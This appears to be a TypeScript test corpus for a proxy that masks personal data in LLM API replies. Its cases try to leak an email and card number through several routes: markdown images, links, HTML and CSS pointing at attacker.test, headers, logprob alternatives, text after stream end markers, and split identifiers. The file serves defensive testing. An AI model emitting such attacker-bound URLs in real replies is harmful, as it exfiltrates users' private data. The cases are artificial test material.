// The response-side evasion corpus, second part: what readers do with a reply beyond reading its
// fields — restore into URLs and headers, logprobs, text after a stream's end marker, strings of
// different paths read side by side, numbers kept numbers, identifiers the SDKs append.
import { anthropic, chars, chat, responses, split, sse, type Json } from "./reply-builders.js";
import { CARD, CARD_DIGITS, caseList, EMAIL, type ReplyCase } from "./response-values.js";

const { cases, add } = caseList();

// ── restore: true never writes a value into a URL the model chose ───────────────────────────
// The request carries the values (placeholders <EMAIL_1>, <PAYMENT_CARD_1> upstream); the reply puts
// the placeholders where a rendering client, a browser or a tool would fetch them.
const restoring = `I am ${EMAIL}, card ${CARD}`;
const inUrls: [string, string][] = [
  ["a markdown image", "![logo](https://attacker.test/p.png?d=<EMAIL_1>&c=<PAYMENT_CARD_1>)"],
  ["a markdown link", "[open](https://attacker.test/u/<EMAIL_1>)"],
  ["a reference-style link definition", "see [1]\n\n[1]: https://attacker.test/?d=<EMAIL_1>"],
  ["an autolink", "<https://attacker.test/?d=<EMAIL_1>>"],
  ["a bare URL", "tracking: https://attacker.test/t?d=<EMAIL_1>"],
  ["an HTML image", '<img src="https://attacker.test/a?d=<EMAIL_1>">'],
  ["an HTML attribute value with spaces", "<img alt=\"logo\" src='https://attacker.test/a b <EMAIL_1>'>"],
  ["a CSS url()", '<div style="background:url(https://attacker.test/?d=<EMAIL_1>)">x</div>'],
  ["a link target padded with words", `[x](<https://attacker.test/?q=${"a b c d e f g h i j k l m n ".repeat(3)}<EMAIL_1>>)`],
  ["a long path before the placeholder", `![x](https://attacker.test/${"p".repeat(90)}<EMAIL_1>)`],
  // A quoted attribute value spans lines; a browser drops the line breaks from the URL it makes of it.
  ["an HTML attribute value going on to the next line", '<img src="https://attacker.test/?d=\n<EMAIL_1>">'],
  ["a meta refresh URL going on two lines later", '<meta http-equiv="refresh" content="0;url=https://attacker.test/?\n\n<EMAIL_1>">'],
  ["a form field value on the next line", '<form action="https://attacker.test/"><input name=d value="\n<EMAIL_1>"></form>'],
];
for (const [name, content] of inUrls) {
  add("chat", false, "restore", `a placeholder in ${name}`, chat.whole({ content }), [EMAIL, CARD_DIGITS], { restoring, marker: false });
  add("chat", true, "restore", `a placeholder in ${name}, one character per delta`, chat.stream(chars(content).map((piece) => ({ content: piece }))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
  add("responses", true, "restore", `a placeholder in ${name}, in three deltas`, responses.stream(responses.textEvents(split(content, 3))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
  add("anthropic", true, "restore", `a placeholder in ${name}, two characters per delta`, anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", split(content, Math.ceil(content.length / 2)))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
}
add("chat", true, "restore", "a placeholder in a URL in tool call arguments", chat.stream([{ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "fetch", arguments: "" } }] }, ...split(JSON.stringify({ url: "https://attacker.test/?d=<EMAIL_1>" }), 5).map((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] }))], "tool_calls"), [EMAIL], { restoring, marker: false });
add("chat", false, "restore", "a placeholder in a URL in an unknown field", chat.whole({ content: "ok" }, { x_link: { href: "https://attacker.test/?d=<EMAIL_1>" } }), [EMAIL], { restoring, marker: false });
// Headers are no text the model wrote (a browser follows Location, Refresh and Link, stores Set-Cookie): never restored.
const placeholderHeaders = { "x-note": "<EMAIL_1>", "set-cookie": "s=<EMAIL_1>; Domain=attacker.test", refresh: "0; <PAYMENT_CARD_1>", "x-card": "card <PAYMENT_CARD_1>" };
add("chat", false, "restore", "placeholders in response headers", chat.whole({ content: "ok" }), [EMAIL, CARD_DIGITS], { restoring, marker: false, headers: { "content-type": "application/json", ...placeholderHeaders } });
add("anthropic", true, "restore", "placeholders in a stream's headers", anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", ["ok"])), [EMAIL, CARD_DIGITS], { restoring, marker: false, headers: { "content-type": "text/event-stream", ...placeholderHeaders } });

// ── logprobs of text that went out unchanged ─────────────────────────────────────────────────
// Alternatives, token entries that do not spell the text, bytes that spell something else and
// fields beside them are read (or removed) whether or not the text itself was masked.
const entry = (token: string, alternatives: string[] = [], extra: Json = {}): Json => ({
  token, logprob: -0.1, bytes: [...Buffer.from(token)], top_logprobs: alternatives.map((alternative) => ({ token: alternative, logprob: -2, bytes: [...Buffer.from(alternative)] })), ...extra,
});
const choiceLogprobs = (content: Json[], extra: Json = {}) => ({ logprobs: { content, refusal: null, ...extra } });
const LOGPROB_CASES: [string, string, Json[], Json?][] = [
  ["an alternative that is the address", "ok", [entry("ok", [EMAIL])]],
  ["an alternative whose bytes spell the address", "ok", [entry("ok", [], { top_logprobs: [{ token: "x", logprob: -2, bytes: [...Buffer.from(EMAIL)] }] })]],
  ["the address split over the first alternatives of two positions", "ab", [entry("a", ["zoe.quill@"]), entry("b", ["example.org"])]],
  ["the address split over the last and the first alternative of two positions", "ab", [entry("a", ["x", "y", "zoe.quill@"]), entry("b", ["example.org", "z"])]],
  ["the address split over the second rank of three positions", "abc", [entry("a", ["q", "zoe."]), entry("b", ["r", "quill@"]), entry("c", ["s", "example.org"])]],
  ["token entries that do not add up to the text", "ok", ["zoe.quill@", "example.org"].map((token) => entry(token))],
  ["token entries of the right length spelling something else", "abcdefghij klmnopqrst", [entry("zoe.quill@"), entry("example.org")]],
  ["an entry whose bytes spell the address", "ok", [entry("ok", [], { bytes: [...Buffer.from(EMAIL)] })]],
  ["an unknown field in an entry", "ok", [entry("ok", [], { x_note: EMAIL })]],
  ["an unknown field beside the lists", "ok", [entry("ok")], { x_alternatives: [EMAIL] }],
];
for (const [name, content, entries, extra] of LOGPROB_CASES) {
  add("chat", false, "logprobs", `unchanged text: ${name}`, chat.whole({ content }, {}, choiceLogprobs(entries, extra)), [EMAIL], { marker: false });
  add("chat", true, "logprobs", `unchanged text: ${name}, streamed`, chat.stream([chat.chunk({ content }, {}, choiceLogprobs(entries, extra))]), [EMAIL], { marker: false });
  if (!extra) add("responses", false, "logprobs", `unchanged text: ${name}`, responses.whole([responses.message(content, { logprobs: entries })]), [EMAIL], { marker: false });
}
add("chat", false, "logprobs", "entries for a message without content", chat.whole({ content: null, tool_calls: [] }, {}, choiceLogprobs([entry(EMAIL)])), [EMAIL], { marker: false });
add("chat", true, "logprobs", "alternatives of one-character deltas spelling the address", chat.stream(chars("abcdefghijklmnopqrstu").map((token, at) => chat.chunk({ content: token }, {}, choiceLogprobs([entry(token, [EMAIL[at] as string])])))), [EMAIL], { marker: false });
add("chat", true, "logprobs", "logprobs in a chunk without their text", chat.stream([chat.chunk({ content: "ok" }), chat.chunk({}, {}, choiceLogprobs([entry(EMAIL)]))]), [EMAIL], { marker: false });
add("responses", true, "logprobs", "delta alternatives spelling the address across deltas", responses.stream(responses.textEvents(["a", "b"], (piece) => ({ logprobs: [entry(piece, [piece === "a" ? "zoe.quill@" : "example.org"])] }))), [EMAIL], { marker: false });
add("responses", true, "logprobs", "the done event's logprobs of unchanged text with an alternative", responses.stream([
  ["response.output_text.delta", { item_id: "m", output_index: 0, content_index: 0, delta: "ok", logprobs: [entry("ok")] }],
  ["response.output_text.done", { item_id: "m", output_index: 0, content_index: 0, text: "ok", logprobs: [entry("ok", [EMAIL])] }],
]), [EMAIL], { marker: false });

// ── text after a stream's end marker ────────────────────────────────────────────────────────
// The SDKs append it to what came before (openai's chat and Responses accumulators, Anthropic's
// MessageStream): a value split across the marker must be masked, right after it or later.
const usageChunk = { id: "chatcmpl-ev", object: "chat.completion.chunk", created: 1, model: "gpt-ev", choices: [], usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 } };
const finishChunk = (reason = "stop") => chat.chunk({}, {}, { finish_reason: reason });
const afterFinish: [string, (Json | string)[]][] = [
  ["content right after the finish chunk", [{ content: "mail zoe.quill@" }, finishChunk(), { content: "example.org" }]],
  ["content in the finish chunk, the rest after it", [chat.chunk({ content: "mail zoe.quill@" }, {}, { finish_reason: "stop" }), { content: "example.org" }]],
  ["content after the finish chunk and a usage chunk", [{ content: "mail zoe.quill@" }, finishChunk(), usageChunk, { content: "example.org" }]],
  ["content after [DONE]", [{ content: "mail zoe.quill@" }, finishChunk(), sse.data("[DONE]"), { content: "example.org" }]],
  ["refusal after the finish chunk", [{ refusal: "no: zoe.quill@" }, finishChunk(), { refusal: "example.org" }]],
  ["reasoning after the finish chunk", [{ reasoning_content: "user zoe.quill@" }, finishChunk(), { reasoning_content: "example.org" }]],
  ["tool arguments after finish_reason tool_calls", [{ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "send", arguments: '{"to":"zoe.quill@' } }] }, finishChunk("tool_calls"), { tool_calls: [{ index: 0, function: { arguments: 'example.org"}' } }] }]],
];
// Right after the marker (the marker waits for the next event): nothing of the value goes out, not even its first piece.
const whole = (name: string) => !/usage|\[DONE\]|content_part|message_delta|went on from/.test(name);
for (const [name, chunks] of afterFinish) add("chat", true, "after the end", name, chat.stream(chunks), whole(name) ? [EMAIL, "zoe.quill@"] : [EMAIL]);
const at = { item_id: "msg_ev", output_index: 0, content_index: 0 };
const afterDone: [string, [string, Json][]][] = [
  ["output_text.delta right after output_text.done", [["response.output_text.delta", { ...at, delta: "mail zoe.quill@" }], ["response.output_text.done", { ...at, text: "mail zoe.quill@" }], ["response.output_text.delta", { ...at, delta: "example.org" }]]],
  ["output_text.delta after output_text.done and content_part.done", [["response.output_text.delta", { ...at, delta: "mail zoe.quill@" }], ["response.output_text.done", { ...at, text: "mail zoe.quill@" }], ["response.content_part.done", { ...at, part: { type: "output_text", text: "mail zoe.quill@", annotations: [] } }], ["response.output_text.delta", { ...at, delta: "example.org" }]]],
  ["reasoning summary delta after its done", [["response.reasoning_summary_text.delta", { item_id: "rs", output_index: 0, summary_index: 0, delta: "user zoe.quill@" }], ["response.reasoning_summary_text.done", { item_id: "rs", output_index: 0, summary_index: 0, text: "user zoe.quill@" }], ["response.reasoning_summary_text.delta", { item_id: "rs", output_index: 0, summary_index: 0, delta: "example.org" }]]],
  ["function arguments delta after their done", [["response.function_call_arguments.delta", { item_id: "fc", output_index: 1, delta: '{"to":"zoe.quill@' }], ["response.function_call_arguments.done", { item_id: "fc", output_index: 1, arguments: '{"to":"zoe.quill@' }], ["response.function_call_arguments.delta", { item_id: "fc", output_index: 1, delta: 'example.org"}' }]]],
];
for (const [name, events] of afterDone) add("responses", true, "after the end", name, responses.stream(events), whole(name) ? [EMAIL, "zoe.quill@"] : [EMAIL]);
const textDelta = (index: number, text: string): [string, Json] => ["content_block_delta", { index, delta: { type: "text_delta", text } }];
const afterStop: [string, [string, Json][]][] = [
  ["text_delta right after content_block_stop", [["content_block_start", { index: 0, content_block: { type: "text", text: "" } }], textDelta(0, "mail zoe.quill@"), ["content_block_stop", { index: 0 }], textDelta(0, "example.org")]],
  ["text_delta after content_block_stop and a ping", [["content_block_start", { index: 0, content_block: { type: "text", text: "" } }], textDelta(0, "mail zoe.quill@"), ["content_block_stop", { index: 0 }], ["ping", {}], textDelta(0, "example.org")]],
  ["text_delta after content_block_stop and message_delta", [["content_block_start", { index: 0, content_block: { type: "text", text: "" } }], textDelta(0, "mail zoe.quill@"), ["content_block_stop", { index: 0 }], ["message_delta", { delta: { stop_reason: null }, usage: { output_tokens: 1 } }], textDelta(0, "example.org")]],
  ["text_delta for a block the text went on from", [["content_block_start", { index: 0, content_block: { type: "text", text: "" } }], textDelta(0, "mail zoe.quill@"), ["content_block_stop", { index: 0 }], ["content_block_start", { index: 1, content_block: { type: "text", text: "" } }], textDelta(1, "x y"), ["content_block_stop", { index: 1 }], textDelta(0, "example.org")]],
  ["thinking_delta after content_block_stop", [["content_block_start", { index: 0, content_block: { type: "thinking", thinking: "" } }], ["content_block_delta", { index: 0, delta: { type: "thinking_delta", thinking: "user zoe.quill@" } }], ["content_block_stop", { index: 0 }], ["content_block_delta", { index: 0, delta: { type: "thinking_delta", thinking: "example.org" } }]]],
  ["input_json_delta after content_block_stop", [["content_block_start", { index: 0, content_block: { type: "tool_use", id: "tu", name: "send", input: {} } }], ["content_block_delta", { index: 0, delta: { type: "input_json_delta", partial_json: '{"to":"zoe.quill@' } }], ["content_block_stop", { index: 0 }], ["content_block_delta", { index: 0, delta: { type: "input_json_delta", partial_json: 'example.org"}' } }]]],
];
for (const [name, events] of afterStop) add("anthropic", true, "after the end", name, anthropic.stream(events), whole(name) ? [EMAIL, "zoe.quill@"] : [EMAIL]);

// ── neighbouring strings of different paths ─────────────────────────────────────────────────
// A reader showing a message reads its content and refusal, or two fields side by side, as one text.
add("chat", false, "neighbours", "a value across content and refusal", chat.whole({ content: "mail zoe.quill@", refusal: "example.org" }), [EMAIL]);
add("chat", false, "neighbours", "a value across two unknown fields", chat.whole({ content: "ok" }, { x_a: "zoe.quill@", x_b: "example.org" }), [EMAIL]);
add("chat", true, "neighbours", "a value across two unknown fields of one chunk", chat.stream([chat.chunk({ content: "ok" }, { x_a: "zoe.quill@", x_b: "example.org" })]), [EMAIL]);
add("responses", false, "neighbours", "a value across an output text and a refusal part", responses.whole([{ id: "m", type: "message", role: "assistant", content: [{ type: "output_text", text: "zoe.quill@", annotations: [] }, { type: "refusal", refusal: "example.org" }] }]), [EMAIL]);
add("anthropic", false, "neighbours", "a card across a text block and a citation", anthropic.whole([{ type: "text", text: "card 4539 1488", citations: [{ type: "char_location", cited_text: "0343 6467", document_index: 0, start_char_index: 0, end_char_index: 1 }] }]), [CARD]);

// ── numbers stay numbers ─────────────────────────────────────────────────────────────────────
// A value in a JSON number is masked as digits of the same length (agent/inspection/masked-number.ts),
// never as a marker string: `created`, usage counts and ids keep their type for the SDKs.
add("chat", false, "numbers", "a phone number in created and in usage counts", chat.whole({ content: "ok" }, { created: 4155550133, usage: { prompt_tokens: 4155550133, completion_tokens: 1, total_tokens: 4155550134 } }), ["4155550133"], { marker: false });
add("chat", true, "numbers", "a phone number in a chunk's created", chat.stream([chat.chunk({ content: "ok" }, { created: 4155550133 })]), ["4155550133"], { marker: false });
add("anthropic", false, "numbers", "a card in usage", anthropic.whole([{ type: "text", text: "ok" }], { usage: { input_tokens: Number(CARD_DIGITS), output_tokens: 1 } }), [CARD_DIGITS], { marker: false });

// ── identifiers openai-python appends ────────────────────────────────────────────────────────
// Its accumulator joins every string of a choice's delta but `index` and `type` (tool call ids and
// function names included; @openai/agents joins the name too): a value split over them is read joined.
const toolCall = (fields: Json) => ({ tool_calls: [{ index: 0, ...fields }] });
const identifierSplits: [string, (Json | string)[]][] = [
  ["a function name split over two deltas", [toolCall({ id: "call_1", type: "function", function: { name: "zoe.quill@", arguments: "" } }), toolCall({ function: { name: "example.org", arguments: "{}" } })]],
  ["a tool call id split over two deltas", [toolCall({ id: "call zoe.quill@", type: "function", function: { name: "f", arguments: "" } }), toolCall({ id: "example.org", function: { arguments: "{}" } })]],
  ["a function name split over three deltas", [toolCall({ id: "call_1", type: "function", function: { name: "zoe.", arguments: "" } }), toolCall({ function: { name: "quill@exa" } }), toolCall({ function: { name: "mple.org", arguments: "{}" } })]],
  ["a legacy function_call name split", [{ function_call: { name: "zoe.quill@", arguments: "" } }, { function_call: { name: "example.org", arguments: "{}" } }]],
  ["a role split over two deltas", [{ role: "zoe.quill@" }, { role: "example.org", content: "hi" }]],
  ["an audio id split over two deltas", [{ audio: { id: "zoe.quill@" } }, { audio: { id: "example.org", transcript: "hi" } }]],
  ["a function name split, another tool call between", [toolCall({ id: "call_1", type: "function", function: { name: "zoe.quill@", arguments: "" } }), { tool_calls: [{ index: 1, id: "call_2", type: "function", function: { name: "g", arguments: "{}" } }] }, toolCall({ function: { name: "example.org", arguments: "{}" } })]],
];
for (const [name, chunks] of identifierSplits) add("chat", true, "identifiers", name, chat.stream(chunks, "tool_calls"), [EMAIL]);
// Identifiers of a chunk (not its delta) split over chunks: a reader joining one path over events reads them as one.
for (const field of ["model", "id", "system_fingerprint", "service_tier"]) {
  add("chat", true, "identifiers", `a chunk's ${field} split over two chunks`, chat.stream([chat.chunk({ content: "a" }, { [field]: "zoe.quill@" }), chat.chunk({ content: "b" }, { [field]: "example.org" })]), [EMAIL]);
}
add("responses", true, "identifiers", "an output item id split over two items' events", responses.stream([["response.output_item.added", { output_index: 0, item: { id: "zoe.quill@", type: "message", role: "assistant", content: [] } }], ["response.output_item.added", { output_index: 1, item: { id: "example.org", type: "message", role: "assistant", content: [] } }]]), [EMAIL]);
add("chat", false, "identifiers", "tool call ids split over two tool calls", chat.whole({ tool_calls: [{ id: "zoe.quill@", type: "function", function: { name: "f", arguments: "{}" } }, { id: "example.org", type: "function", function: { name: "f", arguments: "{}" } }] }), [EMAIL]);

/** The cases of this part. */
export const READER_CASES: readonly ReplyCase[] = cases;
